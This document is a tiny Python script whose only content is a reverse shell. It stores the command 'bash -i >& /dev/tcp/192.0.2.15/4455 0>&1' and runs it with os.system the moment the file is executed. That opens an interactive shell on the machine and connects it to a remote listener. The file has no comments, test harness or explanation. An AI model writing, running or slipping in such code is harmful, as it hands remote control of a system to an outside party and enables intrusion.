import os

COMMAND = "bash -i >& /dev/tcp/192.0.2.15/4455 0>&1"


def trigger():
    os.system(COMMAND)


trigger()
